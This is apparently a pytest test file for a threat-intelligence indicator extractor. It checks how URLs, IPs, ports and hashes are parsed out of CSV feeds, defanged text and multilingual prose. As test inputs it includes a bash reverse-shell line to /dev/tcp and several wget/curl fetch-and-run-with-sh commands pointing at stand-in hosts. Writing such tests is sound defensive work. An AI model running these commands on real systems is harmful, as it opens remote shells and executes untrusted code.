"""Where a URL ends that has no blank behind it, and what stands there is still found."""

import pytest

from tqimap.indicators import find

A, B = ("URL", "http://evil-a.com"), ("URL", "http://evil-b.com")
X = ("URL", "http://evil-a.com/x")
A_PORT, ADDRESS = ("URL", "http://evil-a.com:8080"), ("IP Address", "185.220.101.4")

BEHIND_A_HOST = [
    ("http://evil-a.com,phishing,high", [A], "the next cell of a line of CSV"),
    ("hxxp://evil-a[.]com,Phishing", [A], "the same, defanged"),
    ("http://185.220.101.4,high", [("URL", "http://185.220.101.4")], "an address"),
    ("http://185.220.101.4:8080,malware,", [("URL", "http://185.220.101.4:8080")], "a port"),
    ("http://[2606:4700::64],high", [("URL", "http://[2606:4700::64]")], "an address of IPv6"),
    ("http://evil-a.com:8080,high", [A_PORT], "a port"),
    ("http://evil-a.com,185.220.101.4", [A, ADDRESS], "the next cell is a value"),
    ("http://evil-a.com;high", [A], "a semicolon"),
    ("http://evil-a.com/x'dan, http://evil-a.com/x'ye. hxxp://evil-a[.]com/x'ın", [X, X, X], "endings of cases"),
    ("http://evil-a.com/o'da/b'x", [("URL", "http://evil-a.com/o'da/b'x")], "no ending of a case"),
    ("http://evil-a.com/x's **see http://evil-a.com/x**, *http://evil-a.com/x.** x", [X, X, X], "bold words"),
    ("**meow://evil-a.com/x**, *h[xx]p://evil-a.com/x*, '*h__p://evil-b.com*'", [X, X, B], "bold, in odd schemes, too"),
    ("see http://evil-a.com/x&nbsp; http://evil-a.com/x&gt; x", [X, X], "an entity before a blank"),
    ("&lt;a href=&quot;http://evil-a.com/x&quot;&gt;http://evil-b.com&lt;/a&gt;", [X, B], "entities on both sides"),
    ("src=&#x27;http://evil-a.com/x?a=1&amp;b=2&#39;", [("URL", "http://evil-a.com/x?a=1&b=2")], "an ampersand, too"),
    ("a;http://evil-a.com/x;http://evil-b.com;b", [X, B], "semicolons on both sides"),
    ("http://evil-a.com/x/@http://evil-b.com*hxxp://evil-a[.]com/x!http://evil-b.com",
     [("URL", "http://evil-a.com/x/"), B, X, B], "the signs between the URLs of Emotet's macros"),
    ("http://evil-a.com/?u=@http://evil-b.com", [("URL", "http://evil-a.com/?u=@http://evil-b.com")], "a value"),
    ("http://evil-a.com/x\u3002http://evil-b.com", [X, B], "the end of a sentence in Chinese"),
    ("http://evil-a.com/x\u3001http://evil-b.com/\uff0c http://evil-a.com\u2192http://evil-b.com",
     [X, ("URL", "http://evil-b.com/"), A, B], "lists in Chinese and Japanese, an arrow"),
    ("http://evil-b.com/\u3001hxxp://evil-a[.]com/x\u3002", [("URL", "http://evil-b.com/"), X], "the same, defanged"),
    ("http://evil-a.com,high/low", [A], "a slash that is not the URL's"),
    ("http://evil-a.com\u2013und http://evil-b.com\u2013", [A, B], "a dash"),
    ("http://evil-a.com\u2192185.220.101.4", [A, ADDRESS], "an arrow"),
    ("hxxp://evil-a[.]com\U0001f525", [A], "a picture"),
    ("\u2039http://evil-a.com\u203a", [A], "a quote"),
    ("http://evil-a.com\uff08x\uff09", [A], "a full-width bracket"),
    ("http://evil-a.com\u304b\u3089", [A], "prose without blanks"),
    ("http://evil-a.com:8080\u304b\u3089", [A_PORT], "prose behind a port"),
    ("http://evil-a.com/x\uff0cIP\u662f185.220.101.4", [X, ADDRESS], "a full-width comma"),
    ("http://evil-a.com/x\uff1bC2 http://evil-a.com/x\uff01IP http://evil-a.com/x\uff1fMD5", [X, X, X], "other signs"),
    ("http://evil-a.com/x\u3002IP http://evil-a.com/x\u3002185.220.101.4", [X, X, ADDRESS], "a full stop"),
    ("http://evil-a.com/x\uff1fid=1", [("URL", "http://evil-a.com/x?id=1")], "a full-width sign of a query"),
    ("hxxp://evil-a\uff0ccom/x", [X], "full-width commas for dots"),
    ("http://evil-a.com: http://evil-b.com:then", [A, B], "a colon"),
    ("http://evil-a.com@ http://evil-b.com@x", [A, B], "a sign that would end the name of a user"),
    ("http://evil-a.com$http://evil-b.com", [A, B], "the next URL"),
    ("http://u:p@evil-a.com,high", [("URL", "http://u:p@evil-a.com")], "a user before the host"),
    ("http://u:p,q@evil-a.com/x", [("URL", "http://u:p,q@evil-a.com/x")], "a comma in a password"),
    ("http://b\xfccher-evil.com,x", [("URL", "http://b\xfccher-evil.com")], "a name of other letters"),
    ("http://evil-a.com__ x", [A], "emphasis"),
    ("http://192.168.1.10,185.220.101.4", [ADDRESS], "a private address keeps nothing behind it"),
    ("http://evil.co%6d/x http://evil.co=m/x http://evil.com.$name/ http://evil-$x.com", [], "it goes on"),
]  # fmt: skip
MD5 = "53a95a9ae875cd6156cb62d1752af350"
FIRST_CELLS = [
    ("http://evil-a.com/x,malware_download,2026-03-11", ["http://evil-a.com/x"], "a date"),
    (f"http://evil-a.com/x.exe,{MD5},EXE", ["http://evil-a.com/x.exe", MD5], "a hash"),
    (f"http://evil-a.com/{MD5},{MD5},EXE", [f"http://evil-a.com/{MD5}", MD5], "a sample named by its hash"),
    (f"http://evil-a.com/x.exe,x.exe,{MD5}", ["http://evil-a.com/x.exe", "x.exe", MD5], "a name of a file between"),
    (
        "http://evil-a.com/x,185.220.101.4,evil-c.com",
        ["http://evil-a.com/x", "185.220.101.4", "evil-c.com"],
        "an address and a host",
    ),
    ("http://evil-a.com/x,elf,http://evil-b.com/y", ["http://evil-a.com/x", "http://evil-b.com/y"], "another URL"),
    ('> http://evil-a.com/x,some threat,"a, b"', ["http://evil-a.com/x"], "quotes, in a quoted mail"),
    ("http://evil-a.com/x,,high", ["http://evil-a.com/x"], "an empty cell"),
    ("http://evil-a.com/x;elf;2026-03-11", ["http://evil-a.com/x"], "semicolons"),
    ("url;threat\nhttp://evil-a.com/x;elf", ["http://evil-a.com/x"], "semicolons below a head line"),
    ("http://evil-a.com/0,1518,a.html,2026-03-11", ["http://evil-a.com/0,1518,a.html"], "commas of its own"),
    (f"url,threat,md5\r\nhttp://evil-a.com/x,elf,{MD5}\r\n", ["http://evil-a.com/x", MD5], "the hash below its head"),
    ("# feed\nurl,threat\nhttp://evil-a.com/x,elf", ["http://evil-a.com/x"], "a head line"),
    (
        "http://evil-a.com/x,elf,high\nhttp://evil-b.com/y,elf,low\n",
        ["http://evil-a.com/x", "http://evil-b.com/y"],
        "words, and as many in the next line",
    ),
    ("evil-b.com;domain;high\nhttp://evil-a.com/x;url;high", ["evil-b.com", "http://evil-a.com/x"], "below a host"),
    ("http://evil-a.com/x;url;\xfc\n185.220.101.4;ip;x", ["http://evil-a.com/x", "185.220.101.4"], "above an address"),
    (
        "http://evil-a.com/x,elf,2026-03-11\nhttp://evil-b.com/y,elf,7.5",
        ["http://evil-a.com/x", "http://evil-b.com/y"],
        "as many cells as another line of CSV",
    ),
]  # fmt: skip
OWN_COMMAS = [
    "http://evil-a.com/x;jsessionid=53A95A9AE875CD6156CB62D1752AF350",
    "http://evil-a.com/x;v=1;2026-03-11?q=1",
    "http://evil-a.com/0,1518,druck.html",
    "http://evil-a.com/dw/article/0,,15862413,00.html",
    "http://evil-a.com/temat,123,tytul\nhttp://evil-a.com/temat,456,inny",
    "http://evil-a.com/?from=2026-01-01,2026-02-01",
    "http://evil-a.com/compare/evil-b.com,evil-c.com",
    "http://evil-a.com/@48.137154,11.576124,15z",
    "http://evil-a.com/a,b is what they use,185.220.101.4 is not",
    "http://evil-a.com/a,b.html, 2026-03-11",
]
X = ("URL", "http://evil-a.com/x")
BEHIND_A_PATH = [
    ("evil-a.com/pay?id=A1.Ich hab es http://evil-a.com/?q=A.B.The rest", ["http://evil-a.com/pay?id=A1",
     "http://evil-a.com/?q=A.B"], "a sentence behind a query"),
    ("http://evil-a.com/?q=a.Bar baz", ["http://evil-a.com/?q=a.Bar"], "no first word of a sentence"),
    ("at f (http://evil-a.com/x.js:1:8842)", ["http://evil-a.com/x.js"], "line and column in a script"),
    ("f@http://evil-a.com/x.js?v=1.2:33:4 evil-a.com/y.ts:7", ["http://evil-a.com/x.js?v=1.2", "http://evil-a.com/y.ts"],
     "line and column in a script"),
    ("http://evil-a.com/x:1:2 http://evil-a.com/x.exe:1", ["http://evil-a.com/x:1:2", "http://evil-a.com/x.exe:1"],
     "no script"),
    ("\u8bf7\u8bbf\u95eehttp://evil-a.com/x.exe\u4e0b\u8f7d", ["http://evil-a.com/x.exe"], "Chinese"),
    ("https://evil-a.com/ap/signin\u306b\u30a2\u30af", ["https://evil-a.com/ap/signin"], "Japanese"),
    ("\u306fhttp://evil-a.com/x/\u3067\u3059", ["http://evil-a.com/x/"], "a sentence that runs up to it and on"),
    ("\u306f http://evil-a.com/x/\u3067", ["http://evil-a.com/x/\u3067"], "a path in that script"),
    ("http://evil-a.com/x\ub97c \ucc28\ub2e8", ["http://evil-a.com/x"], "Korean"),
    ("http://evil-a.com/x\uff08\u5df2\u5931\u6548\uff09", ["http://evil-a.com/x"], "full-width brackets"),
    ("http://evil-a.com/x\uff08offline\uff09, x", ["http://evil-a.com/x"], "full-width brackets round ASCII"),
    ("http://evil-a.com/x,file: C:", ["http://evil-a.com/x"], "the label of the next field"),
    ("url=http://evil-a.com/x,user=bob", ["http://evil-a.com/x"], "the next field of a log"),
    ("url=http://evil-a.com/?a=1,2&b=3,x", ["http://evil-a.com/?a=1,2&b=3,x"], "commas of its own"),
    ("|`+http://evil-a.com/x+`", ["http://evil-a.com/x"], "what AsciiDoc shows as it is"),
    ("http://evil-a.com/x+`", ["http://evil-a.com/x+"], "a plus of its own"),
    ("wget+http://evil-a.com/x;sh+/tmp/x", ["http://evil-a.com/x"], "the next command, with blanks as +"),
    ("http://evil-a.com/x;sh=1;cd+2=3", ["http://evil-a.com/x;sh=1"], "a parameter, and a command"),
    ("(http://evil-a.com/x&&sh) (http://evil-b.com/&&)", ["http://evil-a.com/x", "http://evil-b.com/"], "in brackets"),
    ('"GET /?c=$(wget%20http://evil-a.com/x%20-O-|sh)"', ["http://evil-a.com/x"], "a command, with blanks as %20"),
    ("/x=wget+http://evil-a.com/x+-O+/tmp/x HTTP", ["http://evil-a.com/x"], "a command, with blanks as +"),
    ("/x?=curl+-sL+http://evil-a.com/x+-o+y HTTP", ["http://evil-a.com/x"], "an option before it"),
    (";wget${IFS}http://evil-a.com/x;chmod${IFS}777${IFS}x", ["http://evil-a.com/x"], "a command without blanks"),
    ("?c=curl%20http%3A%2F%2Fevil-a.com%2Fx%20%7C%20sh HTTP", ["http://evil-a.com/x"], "escaped as a whole"),
    ("?u-https%3A%2F%2Fevil-a.com%2Fx", ["https://evil-a.com/x"], "escaped behind another sign"),
    ("http://evil-a.com/a%20-%20b.pdf", ["http://evil-a.com/a%20-%20b.pdf"], "blanks of its own"),
    ("git+https://evil-a.com/a+b.git", ["https://evil-a.com/a+b.git"], "the name of a protocol, and a plus"),
    ("evil-a[.]com/evil-b[.]com/x1[.]ru", ["evil-a.com", "evil-b.com", "x1.ru"], "a list of hosts"),
    ("evil-a[.]com/evil-b[.]com/x[.]php", ["http://evil-a.com/evil-b.com/x.php"], "a path with the name of a host"),
    ("evil-a[.]com/x[.]sh", ["http://evil-a.com/x.sh"], "the name of a script"),
    ("evil-a.com/evil-b.com", ["http://evil-a.com/evil-b.com"], "nothing says that both are hosts"),
    ("evil-a.com/evil-b.net and x-1.org/x-2.org/x-3.com", ["evil-a.com", "evil-b.net", "x-1.org", "x-2.org", "x-3.com"],
     "ends of hosts alone that differ"),
    ("evil-a.com/evil-b.net/ evil-a.com/b.net/x evil-a.com/b.org?x", ["http://evil-a.com/evil-b.net/",
     "http://evil-a.com/b.net/x", "http://evil-a.com/b.org?x"], "directories, a query"),
    ("evil-a.com/readme.md evil-a.com/jquery.net.js", ["http://evil-a.com/readme.md", "http://evil-a.com/jquery.net.js"],
     "names of files"),
    ("http://evil-a.com/evil-b.net", ["http://evil-a.com/evil-b.net"], "behind a scheme"),
    ("hxxp://evil-a[.]com/login/page.Klik niet", ["http://evil-a.com/login/page"], "a sentence without a blank"),
    ("http://evil-a.com/faq.Toute r\xe9ponse or evil-a.com/x-1.Ensuite payez", ["http://evil-a.com/faq",
     "http://evil-a.com/x-1"], "a sentence without a blank, of a plain URL and one without a scheme"),
    ("http://evil-a.com/api/System.Console is, http://evil-a.com/Index.Html too", ["http://evil-a.com/api/System.Console",
     "http://evil-a.com/Index.Html"], "names with capitals of their own"),
    ("http://evil-a.com/index.Html has http://evil-a.com/a?x=b.Klik niet", ["http://evil-a.com/index.Html",
     "http://evil-a.com/a?x=b.Klik"], "a file, a value of a query"),
    ("http://evil-a.com/a.bin.Its C2 is", ["http://evil-a.com/a.bin"], "a sentence that goes on with a capital"),
    ("http://evil-a.com/login.Click", ["http://evil-a.com/login.Click"], "no sentence behind it"),
    ("hxxp://evil-a[.]com/x=>hxxps://evil-b[.]com/y->185.220.101.4", ["http://evil-a.com/x", "https://evil-b.com/y",
     "185.220.101.4"], "arrows"),
    ("evil-a[.]com/x=>evil-b[.]com", ["http://evil-a.com/x", "evil-b.com"], "an arrow behind one without a scheme"),
    ("<http://evil-a.com/?d=> <evil-a.com/?d=> x", ["http://evil-a.com/?d=", "http://evil-a.com/?d="], "brackets"),
    ("evil-b.com;host;c2\nevil-a.com/d.php?u=9;url;payload host\n", ["evil-b.com", "http://evil-a.com/d.php?u=9"],
     "cells behind one without a scheme"),
    ("http://evil-a.com/a:b,c:d", ["http://evil-a.com/a:b,c:d"], "colons and commas of its own"),
    ("http://evil-a.com/x\uff1a\u5df2", ["http://evil-a.com/x"], "a full-width colon"),
    ("http://evil-a.com/x\u3001http://evil-b.com/y", ["http://evil-a.com/x", "http://evil-b.com/y"], "a list"),
    ("http://evil-a.com/x\u061f http://evil-b.com/y\u060c", ["http://evil-a.com/x", "http://evil-b.com/y"], "Arabic"),
    ("\U0001f525hxxps://evil-a[.]com/x/\U0001f525 x", ["https://evil-a.com/x/"], "pictures"),
    ("http://evil-a.com/x.\u041f\u043e\u0447\u0442\u0430", ["http://evil-a.com/x"], "the next sentence, in Russian"),
    ("\u2039http://evil-a.com/x\u203a", ["http://evil-a.com/x"], "quotes"),
    ("http://evil-a.com/_1TZ\u201318Hp", ["http://evil-a.com/_1TZ\u201318Hp"], "a dash that a word processor made"),
    ("evil-a.com/a-b\u2013c/d.php x", ["http://evil-a.com/a-b\u2013c/d.php"], "a dash in a segment"),
    ("http://evil-a.com/x\u2013http://evil-b.com/y", ["http://evil-a.com/x", "http://evil-b.com/y"], "a dash"),
    ("f('//evil-a.com/x');g=1", ["http://evil-a.com/x"], "a string of a script without a scheme"),
    ("http://evil-a.com/x\u2192185.220.101.4", ["http://evil-a.com/x", "185.220.101.4"], "an arrow"),
    ("hxxp://evil-a[.]com/xhxxp://evil-b[.]com/y", ["http://evil-a.com/x", "http://evil-b.com/y"], "the next URL"),
    ("http://evil-a.com/xHTTPS://evil-b.com", ["http://evil-a.com/x", "https://evil-b.com"], "the next, in capitals"),
    ("http://evil-a.comhttp://evil-b.com/y", ["http://evil-a.com", "http://evil-b.com/y"], "the next behind a host"),
    ("http://evil-a.com/?u=http://evil-b.com/y", ["http://evil-a.com/?u=http://evil-b.com/y"], "a field"),
    ("http://evil-a.com/?s=x--~Chttp://evil-b.com", ["http://evil-a.com/?s=x--~Chttp://evil-b.com"], "a copy"),
    ("http://evil-a.com/x/http://evil-b.com/y", ["http://evil-a.com/x/http://evil-b.com/y"], "a segment"),
    ("\u2502http://evil-a.com/x\u2502evil-b.com\u2502", ["http://evil-a.com/x", "evil-b.com"], "the rules of a table"),
]  # fmt: skip
IRIS = [
    "https://ja.evil-a.org/wiki/\u65e5\u672c",
    "https://ja.evil-a.org/wiki/\u65e5\u672cA\u578b2011\u5e74",
    "https://ja.evil-a.org/wiki/\u30d5\u30a1\u30a4\u30eb:\u65e5\u672c(\u66d6\u6627)",
    "http://evil-a.ru/\u043f\u0443\u0442\u044c/\u0444\u0430\u0439\u043b.php",
    "http://evil-a.com/File:\u041c\u043e\u0441\u043a\u0432\u0430.\u041f\u043b\u0430\u043d.jpg",
    "http://evil-a.com/?q=\u65e5\u672c&b=1",
    "http://x\u65e5\u672c.com/\xe9t\xe9/%E3%81%AB",
    "http://\u2708evil.ws/a",
    "http://evil-a.com/x_(\u272a)_y",
    "http://evil-a.com/\U0001f525\U0001f525-offers",
]
PORTS = [
    ("185[.]220[.]101[.]7:4444/tcp", "185.220.101.7", "4444"),
    ("evil-a.com:443/tcp, evil-a.com:443/TCP.", "evil-a.com", "443"),
    ("evil-a.com:53/udp", "evil-a.com", "53"),
    ("185.220.101.7/tcp.", "185.220.101.7", ""),
    ("from outside:185.220.101.7/54321 to inside", "185.220.101.7", "54321"),
    ("185.220.101.7:80/443", "185.220.101.7", "80"),
    ("evil-a.com:80/443", "evil-a.com", "80"),
    ("bash -i >& /dev/tcp/185.220.101.7/4444 0>&1", "185.220.101.7", "4444"),
]
NO_PORTS = [
    ("185.220.101.0/24", "CIDR Block", "185.220.101.0/24", "a network"),
    ("5.188.0.0/16; and 185.220.101(.)0/25. Range", "CIDR Block", "185.220.101.0/25", "the end of a sentence"),
    ("185.220.101.7/70000", "URL", "http://185.220.101.7/70000", "too great for a port"),
    ("185.220.101.7:8080/ssh", "URL", "http://185.220.101.7:8080/ssh", "a path behind a port"),
    ("185.220.101.7/443/x", "URL", "http://185.220.101.7/443/x", "a path that goes on"),
    ("185.220.101.7/4444.exe", "URL", "http://185.220.101.7/4444.exe", "the name of a file"),
    ("evil-a.com/12345", "URL", "http://evil-a.com/12345", "a short link"),
    ("evil-a.com/tcp/x", "URL", "http://evil-a.com/tcp/x", "a path that goes on"),
    ("http://185.220.101.7/54321", "URL", "http://185.220.101.7/54321", "a scheme"),
]  # fmt: skip
AT_ITS_END = "$%&(*+=_{~!'),;}@"
AT_ITS_END += (
    "\u2013\u00b7\u2192\u21d2\u203a\u2039\u201e\uff1a\uff08\u061f\u060c\u0964\u2714\U0001f525\u2502\u2551\u2122\xae\xb0"
)
GLUED = "!'),;}@$&(*+{~\u2026\u3001\uff0c\uff1b\uff01\uff09\u2013\u2192\u061f\u2502\u2122"


@pytest.mark.parametrize(("text", "expected", "reason"), BEHIND_A_HOST)
def test_what_stands_in_no_host_ends_a_url_without_a_path(
    text: str, expected: list[tuple[str, str]], reason: str
) -> None:
    found = find(text).found
    assert [(finding.type, finding.value) for finding in found] == expected, reason
    assert all(text[finding.start : finding.end] == finding.raw for finding in found)


@pytest.mark.parametrize(("text", "values", "reason"), BEHIND_A_PATH, ids=[reason for _, _, reason in BEHIND_A_PATH])
def test_prose_and_signs_that_no_url_holds_end_its_path(text: str, values: list[str], reason: str) -> None:
    found = find(text).found
    assert [finding.value for finding in found] == values, reason
    assert all(text[finding.start : finding.end] == finding.raw for finding in found)


@pytest.mark.parametrize("url", IRIS)
def test_a_path_may_be_written_in_any_script(url: str) -> None:
    assert [finding.value for finding in find(f"See {url} x").found] == [url]


def test_signs_that_no_url_holds_end_its_path() -> None:
    signs = (
        "\u2013\u2026\u2192\u21d2\u203a\u2039\u201e\u061f\u060c\u061b\u0964\u2714\U0001f525\u2502\u2551\u2122\xae\xb0"
    )
    texts = [f"See {X[1]}{sign}{behind}" for sign in f"{signs}\u2022\xb7" for behind in ("", " x")]
    texts += [f"See {X[1]}{sign}x" for sign in signs]
    assert [text for text in texts if [(f.type, f.value) for f in find(text).found] != [X]] == []


@pytest.mark.parametrize("url", [A, A_PORT], ids=["host", "port"])
def test_no_sign_behind_a_host_loses_the_url(url: tuple[str, str]) -> None:
    texts = [f"See {url[1]}{sign} x" for sign in AT_ITS_END] + [f"See {url[1]}{sign}x" for sign in GLUED]
    wrong = [text for text in texts if [(f.type, f.value) for f in find(text).found] != [url]]
    assert wrong == []


@pytest.mark.parametrize(("text", "values", "reason"), FIRST_CELLS, ids=[reason for _, _, reason in FIRST_CELLS])
def test_a_url_that_begins_a_line_of_csv_ends_with_its_cell(text: str, values: list[str], reason: str) -> None:
    assert [finding.value for finding in find(text).found] == values, reason


@pytest.mark.parametrize("text", OWN_COMMAS)
def test_a_url_keeps_commas_that_separate_no_cells(text: str) -> None:
    urls = [finding.value for finding in find(text).found if finding.type == "URL"]
    assert urls == [line.split(" ")[0].rstrip(",") for line in text.split("\n")]


@pytest.mark.parametrize(("text", "value", "port"), PORTS)
def test_a_port_behind_a_slash_is_no_path(text: str, value: str, port: str) -> None:
    found = find(text).found
    assert {(finding.value, dict(finding.attributes).get("Port", "")) for finding in found} == {(value, port)}
    assert {finding.type for finding in found} <= {"IP Address", "FQDN"}


@pytest.mark.parametrize(("text", "type_", "value", "reason"), NO_PORTS, ids=[reason for *_, reason in NO_PORTS])
def test_other_numbers_behind_a_slash_are_no_ports(text: str, type_: str, value: str, reason: str) -> None:
    assert (type_, value) in {(finding.type, finding.value) for finding in find(text).found}, reason
